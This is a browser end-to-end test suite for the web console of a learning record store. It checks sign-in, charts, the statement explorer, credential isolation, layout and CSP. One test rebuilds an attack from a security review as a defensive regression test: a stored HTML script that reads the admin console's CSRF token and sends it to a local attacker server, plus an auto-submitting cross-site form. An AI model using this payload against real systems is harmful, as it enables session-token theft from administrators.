// Browser tests of the web console: Debian's chromium driven by playwright-core against a live `npm start`
// (PORT 8870, a fresh LRS_PERSIST_DIR, LRS_ADMIN_TOKEN set), started here and stopped by process group.
// Run: npm run test:e2e (needs /usr/bin/chromium: apt-get install -y chromium). Screenshots go to docs/.
import { spawn } from "node:child_process";
import { createServer } from "node:http";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { chromium } from "playwright-core";
import { consolePages, signInConsole, timeConsolePages } from "./console-client.mjs";
import { seedStatement } from "../../scripts/seed/population.mjs";

// LRS_SCREENSHOTS=1 refreshes the README's screenshots in docs/.
const SCREENSHOTS = process.env.LRS_SCREENSHOTS === "1";

const PORT = 8870;
const BASE = `http://127.0.0.1:${PORT}`;
const ADMIN_TOKEN = "e2e-admin-token";
const DEV_AUTH = `Basic ${btoa("dev-key:dev-secret")}`;
const ROOT = resolve(import.meta.dirname, "../..");
const COURSE = "http://example.com/e2e/course";
const QUIZ = "http://example.com/e2e/quiz";
// A second store at real scale (the seed script's population): six-digit counts on every chart.
const SCALE_STORE = "scale";
const SCALE_STATEMENTS = 102_000; // 1 % of them are voided: still more than 100,000 counted
const SCALE_BATCH = 1_500; // about 2.1 MB of JSON: under the 3 MiB statements body limit (src/http/request-limits.ts)

let server;
let stateDir;
let browser;
let scaleSeeded;
const cspViolations = [];

async function waitForServer(deadline = Date.now() + 120_000) {
  while (Date.now() < deadline) {
    try {
      const response = await fetch(`${BASE}/xapi/about`);
      if (response.ok) return;
    } catch {}
    await new Promise((done) => setTimeout(done, 500));
  }
  throw new Error("the LRS did not start");
}

async function xapi(path, init = {}, auth = DEV_AUTH) {
  const response = await fetch(`${BASE}/xapi${path}`, {
    ...init,
    headers: { Authorization: auth, "X-Experience-API-Version": "2.0.0", "Content-Type": "application/json", ...init.headers },
  });
  if (response.status >= 300) throw new Error(`${path}: ${response.status} ${await response.text()}`);
  return response;
}

async function adminApi(path, json) {
  const response = await fetch(`${BASE}/admin${path}`, {
    method: "POST",
    headers: { Authorization: `Bearer ${ADMIN_TOKEN}`, "Content-Type": "application/json" },
    body: JSON.stringify(json),
  });
  if (response.status >= 300) throw new Error(`${path}: ${response.status} ${await response.text()}`);
  return response.json();
}

function statement(actor, verb, activity, scaled, success) {
  return {
    actor: { objectType: "Agent", name: actor, mbox: `mailto:${actor.toLowerCase()}@example.com` },
    verb: { id: `http://adlnet.gov/expapi/verbs/${verb}`, display: { "en-US": verb } },
    object: { objectType: "Activity", id: activity, definition: { name: { "en-US": activity === COURSE ? "Course 1" : "Quiz 1" } } },
    result: { score: { scaled }, ...(success === undefined ? {} : { success }) },
  };
}

/** Seeds SCALE_STORE over HTTP in big batches, two at a time; returns its credential. */
async function seedScaleStore() {
  await adminApi("/stores", { id: SCALE_STORE, name: "Seeded at scale" });
  const credential = await adminApi(`/stores/${SCALE_STORE}/credentials`, { name: "Seeder", scopes: ["all"] });
  const auth = `Basic ${btoa(`${credential.key}:${credential.secret}`)}`;
  const endMs = Date.UTC(2026, 0, 1);
  let next = 0;
  const worker = async () => {
    while (next < SCALE_STATEMENTS) {
      const start = next;
      next = Math.min(SCALE_STATEMENTS, start + SCALE_BATCH);
      const body = [];
      for (let i = start; i < next; i++) body.push(seedStatement(1, i, "2.0.0", endMs));
      await xapi("/statements", { method: "POST", body: JSON.stringify(body) }, auth);
    }
  };
  await Promise.all([worker(), worker()]);
  return credential;
}

/** Painted pixels of a chart canvas: in its y axis's box, and in the canvas's leftmost two columns (where a label cut off by the box would reach). */
function axisInk(page, id) {
  return page.locator(`#${id}`).evaluate((el) => {
    const canvas = el.querySelector("canvas");
    const axisWidth = Math.round(parseFloat(el.querySelector(".u-over").style.left) * (canvas.width / canvas.clientWidth));
    const ink = (x, width) => {
      const { data } = canvas.getContext("2d").getImageData(x, 0, width, canvas.height);
      let painted = 0;
      for (let i = 3; i < data.length; i += 4) if (data[i] > 0) painted++;
      return painted;
    };
    return { axis: ink(0, axisWidth), edge: ink(0, 2), axisWidth };
  });
}

async function newPage(viewport = { width: 1280, height: 900 }, locale = "en-US") {
  const context = await browser.newContext({ viewport, locale });
  const page = await context.newPage();
  page.setDefaultTimeout(10_000);
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
  });
  return page;
}

async function signInWithCredential(page, key, secret) {
  await page.goto(`${BASE}/console/sign-in`);
  await page.getByLabel("Key").fill(key);
  await page.getByLabel("Secret").fill(secret);
  await page.getByRole("button", { name: "Sign in to the store" }).click();
  await page.waitForLoadState("load");
}

async function signInAsAdmin(page) {
  await page.goto(`${BASE}/console/sign-in`);
  await page.getByLabel("Admin token").fill(ADMIN_TOKEN);
  await page.getByRole("button", { name: "Sign in as administrator" }).click();
  await page.waitForURL(`${BASE}/console/admin`);
}

before(async () => {
  stateDir = mkdtempSync(join(tmpdir(), "console-e2e-"));
  server = spawn(process.execPath, ["scripts/start.mjs"], {
    cwd: ROOT,
    env: { ...process.env, PATH: `${join(ROOT, "node_modules/.bin")}:${process.env.PATH}`, PORT: String(PORT), LRS_PERSIST_DIR: stateDir, LRS_ADMIN_TOKEN: ADMIN_TOKEN, LRS_BOOTSTRAP_KEY: "", LRS_BOOTSTRAP_SECRET: "" },
    stdio: ["ignore", "ignore", "inherit"],
    detached: true,
  });
  await waitForServer();
  // Default store: 30 statements (20 completed COURSE by Ana at 92 %, 10 attempted QUIZ by Ben at 35 %).
  await xapi("/statements", {
    method: "POST",
    body: JSON.stringify([
      ...Array.from({ length: 20 }, () => statement("Ana", "completed", COURSE, 0.92)),
      ...Array.from({ length: 10 }, (_, i) => statement("Ben", "attempted", QUIZ, 0.35, i < 5)),
    ]),
  });
  // Not concurrently with the tests: a local LRS busy storing big batches answers pages late.
  const seedStart = performance.now();
  scaleSeeded = await seedScaleStore();
  console.log(`seeded ${SCALE_STATEMENTS} statements into ${SCALE_STORE} in ${((performance.now() - seedStart) / 1000).toFixed(1)} s`);
  browser = await chromium.launch({
    executablePath: "/usr/bin/chromium",
    headless: true,
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-background-networking",
      "--disable-component-update",
      "--no-first-run",
      "--disable-sync",
      "--disable-quic",
    ],
  });
});

after(async () => {
  await browser?.close();
  if (server?.pid) {
    try {
      process.kill(-server.pid, "SIGTERM");
    } catch {}
    await new Promise((done) => setTimeout(done, 1500));
    try {
      process.kill(-server.pid, "SIGKILL");
    } catch {}
  }
  if (stateDir) rmSync(stateDir, { recursive: true, force: true });
});

describe("console in a real browser", { concurrency: false }, () => {
  it("signs in with a store credential and out again", async () => {
    const page = await newPage();
    await signInWithCredential(page, "dev-key", "dev-secret");
    assert.equal(page.url(), `${BASE}/console/s/default`);
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.waitForURL(`${BASE}/console/sign-in`);
    await page.goto(`${BASE}/console/s/default`);
    assert.equal(page.url(), `${BASE}/console/sign-in`);
    await signInWithCredential(page, "dev-key", "wrong-secret");
    assert.match(await page.getByRole("alert").innerText(), /not accepted/);
    await page.context().close();
  });

  it("draws the overview chart from the seeded numbers", async () => {
    const page = await newPage();
    await signInWithCredential(page, "dev-key", "dev-secret");
    assert.equal(await page.locator('[data-figure="total"]').innerText(), "30");
    const chart = page.locator("#statements-per-day");
    await chart.locator("canvas").waitFor();
    assert.equal(await chart.getAttribute("data-drawn"), "true");
    // A store of today's data only charts today by the hour.
    assert.equal(await chart.getAttribute("data-resolution"), "hour");
    const values = JSON.parse(await chart.getAttribute("data-values"));
    assert.equal(Math.max(...values), 30);
    assert.equal(values.reduce((a, b) => a + b, 0), 30);
    const rows = await page.locator('[data-chart-table="statements-per-day"] tbody tr').count();
    assert.equal(rows, values.length);
    await page.goto(`${BASE}/console/s/default/dashboard`);
    await page.locator("#score-histogram canvas").waitFor();
    assert.deepEqual(JSON.parse(await page.locator("#score-histogram").getAttribute("data-values")), [0, 0, 0, 10, 0, 0, 0, 0, 0, 20]);
    assert.match(await page.locator('[data-figure="pass-rate"]').innerText(), /50%/);
    await page.context().close();
  });

  it("filters and pages in the explorer, opens a statement, and shows live statements", async () => {
    const page = await newPage();
    await signInWithCredential(page, "dev-key", "dev-secret");
    await page.getByRole("link", { name: "Statements" }).click();
    await page.waitForURL(/\/statements$/);
    assert.equal(await page.locator("li.statement").count(), 25);
    await page.getByRole("link", { name: "Older statements" }).click();
    await page.waitForLoadState("load");
    assert.equal(await page.locator("li.statement").count(), 5);

    await page.goto(`${BASE}/console/s/default/statements`);
    await page.getByLabel("Verb").fill("http://adlnet.gov/expapi/verbs/attempted");
    await page.getByRole("button", { name: "Filter" }).click();
    await page.waitForURL(/verb=/);
    assert.equal(await page.locator("li.statement").count(), 10);
    const first = page.locator("li.statement").first();
    assert.match(await first.locator(".sentence").innerText(), /^Ben attempted Quiz 1 with 35%/);
    assert.equal(await first.locator("pre.json").isVisible(), false);
    await first.locator("summary").focus();
    await page.keyboard.press("Enter"); // keyboard opens it like a click
    assert.equal(await first.locator("pre.json").isVisible(), true);
    const json = JSON.parse(await first.locator("pre.json").innerText());
    assert.equal(json.id, await first.getAttribute("data-statement-id"));
    assert.equal(json.actor.mbox, "mailto:ben@example.com");

    await page.getByRole("button", { name: "Live mode" }).click();
    await xapi("/statements", { method: "POST", body: JSON.stringify(statement("Cy", "attempted", QUIZ, 0.5)) });
    await page.locator("li.statement", { hasText: "Cy attempted Quiz 1" }).waitFor({ timeout: 15_000 });
    assert.equal(await page.locator("li.statement").count(), 11);
    await page.context().close();
  });

  it("refuses a form whose CSRF token was tampered with", async () => {
    const page = await newPage();
    await signInAsAdmin(page);
    await page.locator('form[action="/console/admin/stores"] input[name="_csrf"]').evaluate((input) => {
      input.value = "forged";
    });
    await page.getByLabel("Name").fill("Forged store");
    await page.getByLabel(/^Id/).fill("forged");
    const [response] = await Promise.all([page.waitForResponse(/\/console\/admin\/stores$/), page.getByRole("button", { name: "Create store" }).click()]);
    assert.equal(response.status(), 403);
    await page.goto(`${BASE}/console/admin`);
    assert.equal(await page.locator('[data-store-id="forged"]').count(), 0);
    await page.context().close();
  });

  it("manages stores and credentials, and a credential cannot see another store", async () => {
    const admin = await newPage();
    await signInAsAdmin(admin);
    await admin.getByLabel("Name").fill("E2E store");
    await admin.getByLabel(/^Id/).fill("e2e-b");
    await admin.getByRole("button", { name: "Create store" }).click();
    await admin.waitForURL(`${BASE}/console/admin/stores/e2e-b`);
    await admin.getByLabel("Name").fill("E2E reader");
    const form = admin.locator('form[action$="/credentials"]');
    await form.getByLabel("statements/read", { exact: true }).check();
    await form.getByRole("button", { name: "Create credential" }).click();
    await admin.waitForLoadState("load");
    const key = await admin.locator("[data-shown-key]").innerText();
    const secret = await admin.locator("[data-shown-secret]").innerText();
    assert.match(secret, /^[0-9a-f]{64}$/);
    await admin.goto(`${BASE}/console/admin/stores/e2e-b`); // shown once: the page later holds no secret
    assert.equal(await admin.locator("[data-shown-secret]").count(), 0);
    assert.equal(await admin.locator(`[data-credential-key="${key}"]`).count(), 1);

    await xapi("/statements", { method: "POST", body: JSON.stringify(statement("Bo", "completed", COURSE, 0.5)) }, `Basic ${btoa(`${key}:${secret}`)}`);
    const reader = await newPage();
    await signInWithCredential(reader, key, secret);
    assert.equal(reader.url(), `${BASE}/console/s/e2e-b`);
    assert.equal(await reader.locator('[data-figure="total"]').innerText(), "1");
    await reader.goto(`${BASE}/console/s/e2e-b/statements`);
    assert.equal(await reader.locator("li.statement").count(), 1);
    for (const path of ["/console/s/default", "/console/s/default/statements", "/console/admin"]) {
      const response = await reader.goto(`${BASE}${path}`);
      assert.equal(response.status(), 404, path);
    }

    await admin.goto(`${BASE}/console/admin/stores/e2e-b`);
    await admin.locator(`[data-credential-key="${key}"]`).getByRole("button", { name: "Disable" }).click();
    await admin.waitForLoadState("load");
    await reader.goto(`${BASE}/console/s/e2e-b`);
    assert.equal(reader.url(), `${BASE}/console/sign-in`);
    await admin.context().close();
    await reader.context().close();
  });

  it("fits a phone screen without sideways scrolling, and is usable by keyboard", async () => {
    const page = await newPage({ width: 390, height: 844 });
    await signInAsAdmin(page);
    for (const path of ["/console/admin", "/console/s/default", "/console/s/default/statements", "/console/s/default/dashboard", `/console/s/default/activity?activityId=${encodeURIComponent(QUIZ)}`]) {
      await page.goto(`${BASE}${path}`);
      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.ok(overflow <= 1, `${path} overflows by ${overflow}px`);
    }
    // The first Tab reaches the skip link, which moves focus to the main content.
    await page.keyboard.press("Tab");
    assert.equal(await page.evaluate(() => document.activeElement?.textContent), "Skip to content");
    await page.keyboard.press("Enter");
    assert.equal(await page.evaluate(() => document.activeElement?.id), "main");
    await page.context().close();
  });

  it("the benchmark's console client signs in and every page it times answers 200", async () => {
    const session = await signInConsole(BASE, { key: "dev-key", secret: "dev-secret" });
    const pages = consolePages("default", { activityId: QUIZ, agentKey: "mbox:mailto:ana@example.com" });
    const timings = await timeConsolePages(BASE, session, pages, 1);
    for (const [name, { status }] of Object.entries(timings)) assert.equal(status, 200, name);
  });

  it("a stored HTML document cannot run as a page of the LRS origin, even through a cross-site Alternate Syntax form", async () => {
    // The attack of the security review: a tenant with only the `state` scope stores a script as text/html;
    // an attacker's page makes a signed-in administrator's browser POST a form (?method=GET, credentials and
    // version as fields) that fetches it. Had it rendered, its script would read the console's CSRF token.
    const mallory = await adminApi("/stores/default/credentials", { name: "Mallory", scopes: ["state"] });
    const stolen = [];
    const attacker = createServer((request, response) => {
      if (request.url.startsWith("/steal")) {
        stolen.push(request.url);
        response.end();
        return;
      }
      response.setHeader("Content-Type", "text/html");
      response.end(attackPage);
    });
    await new Promise((done) => attacker.listen(0, "127.0.0.1", done));
    const attackerOrigin = `http://127.0.0.1:${attacker.address().port}`;
    const document = { activityId: COURSE, agent: JSON.stringify({ mbox: "mailto:mallory@example.com" }), stateId: "payload" };
    const authorization = `Basic ${btoa(`${mallory.key}:${mallory.secret}`)}`;
    const fields = { Authorization: authorization, "X-Experience-API-Version": "1.0.3", ...document };
    const script = `fetch("/console/admin").then((r) => r.text()).then((html) => {
      const token = (html.match(/name="_csrf" value="([^"]+)"/) || [])[1];
      new Image().src = "${attackerOrigin}/steal?csrf=" + encodeURIComponent(token);
    });`;
    const stored = await fetch(`${BASE}/xapi/activities/state?${new URLSearchParams(document)}`, {
      method: "PUT",
      headers: { Authorization: authorization, "X-Experience-API-Version": "1.0.3", "Content-Type": "text/html" },
      body: `<!doctype html><title>payload</title><script>${script}</script>`,
    });
    assert.equal(stored.status, 204);
    const inputs = Object.entries(fields)
      .map(([name, value]) => `<input type="hidden" name="${name}" value='${value.replaceAll("'", "&#39;")}'>`)
      .join("");
    const attackPage = `<!doctype html><form method="POST" enctype="application/x-www-form-urlencoded"
      action="${BASE}/xapi/activities/state?method=GET">${inputs}</form><script>document.forms[0].submit()</script>`;

    const admin = await newPage();
    await signInAsAdmin(admin);
    const download = admin.waitForEvent("download", { timeout: 10_000 }).catch(() => undefined);
    await admin.goto(attackerOrigin).catch(() => {}); // the form's navigation may abort into the download
    const saved = await download;
    await new Promise((done) => setTimeout(done, 1500)); // time for a script that ran to call home
    assert.deepEqual(stolen, [], "the stored script ran in the LRS origin and read the console's CSRF token");
    assert.equal(saved?.url(), `${BASE}/xapi/activities/state?method=GET`);
    await admin.context().close();
    attacker.close();
  });

  it("at scale (100,000+ statements): axis labels fit their box, counts are grouped, dashboard rows show names", async () => {
    const credential = scaleSeeded;
    const page = await newPage({ width: 1280, height: 1000 });
    await signInWithCredential(page, credential.key, credential.secret);
    assert.equal(page.url(), `${BASE}/console/s/${SCALE_STORE}`);
    const total = await page.locator('[data-figure="total"]').innerText();
    assert.match(total, /^\d{1,3}(,\d{3})+$/);
    assert.ok(Number(total.replaceAll(",", "")) >= 100_000, total);
    assert.match(await page.locator("[data-freshness]").innerText(), /^Figures include statements stored up to \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC\./);
    await page.locator("#statements-per-day canvas").waitFor();
    // A young store's chart is per hour: seeding may straddle an hour boundary (CI once did at 12:59), so the
    // series sums to the total and its tallest bucket holds at least half of it (six-digit counts either way).
    const perBucket = JSON.parse(await page.locator("#statements-per-day").getAttribute("data-values"));
    assert.equal(perBucket.reduce((sum, n) => sum + n, 0), Number(total.replaceAll(",", "")));
    assert.ok(Math.max(...perBucket) >= 50_000, String(perBucket));
    const overviewAxis = await axisInk(page, "statements-per-day");
    assert.ok(overviewAxis.axis > 0, "the y axis has labels");
    assert.equal(overviewAxis.edge, 0, "a y-axis label is cut off at the chart's left edge");
    if (SCREENSHOTS) await page.screenshot({ path: join(ROOT, "docs/console-overview.png"), fullPage: true });

    await page.goto(`${BASE}/console/s/${SCALE_STORE}/dashboard`);
    await page.locator("#score-histogram canvas").waitFor();
    const histogramAxis = await axisInk(page, "score-histogram");
    assert.ok(histogramAxis.axis > 0, "the y axis has labels");
    assert.equal(histogramAxis.edge, 0, "a y-axis label is cut off at the chart's left edge");
    for (const card of ["Top verbs", "Top activities"]) {
      const rows = page.locator("section.card", { has: page.getByRole("heading", { name: card }) }).locator("tbody tr");
      assert.equal(await rows.count(), 10, card);
      for (const row of await rows.all()) {
        const name = await row.locator("[data-rank-name]").innerText();
        const iri = await row.locator("[data-rank-name]").getAttribute("title");
        assert.match(iri, /^https?:\/\//, card);
        assert.doesNotMatch(name, /^https?:|\//, `${card}: ${name} is not a name`);
        assert.match(await row.locator("[data-rank-count]").innerText(), /^\d{1,3}(,\d{3})*$/);
      }
    }
    const activities = page.locator("section.card", { has: page.getByRole("heading", { name: "Top activities" }) });
    assert.match(await activities.locator("[data-rank-name]").first().innerText(), /^Course \d+ unit \d+$/);
    assert.match(await page.locator('[data-figure="completion-rate"]').innerText(), /^\d+% \(\d{1,3}(,\d{3})+ completed, \d{1,3}(,\d{3})* incomplete\)$/);
    if (SCREENSHOTS) await page.screenshot({ path: join(ROOT, "docs/console-dashboard.png"), fullPage: true });

    if (SCREENSHOTS) {
      await page.goto(`${BASE}/console/s/${SCALE_STORE}/statements`);
      await page.screenshot({ path: join(ROOT, "docs/console-explorer.png"), fullPage: false });
    }
    await page.context().close();
  });

  it("at scale, in French: counts grouped the French way, verb displays in French", async () => {
    const credential = scaleSeeded;
    const page = await newPage({ width: 1280, height: 1000 }, "fr-FR");
    await signInWithCredential(page, credential.key, credential.secret);
    assert.match(await page.locator('[data-figure="total"]').innerText(), /^\d{1,3}(\u202f\d{3})+$/);
    await page.locator("#statements-per-day canvas").waitFor();
    assert.equal((await axisInk(page, "statements-per-day")).edge, 0);
    await page.goto(`${BASE}/console/s/${SCALE_STORE}/dashboard`);
    const verbs = page.locator("section.card", { has: page.getByRole("heading", { name: "Top verbs" }) }).locator("[data-rank-name]");
    assert.match(await verbs.first().innerText(), /^\w+ \(fr\)$/);
    await page.context().close();
  });

  it("raised no Content-Security-Policy violation", () => {
    assert.deepEqual(cspViolations, []);
  });
});
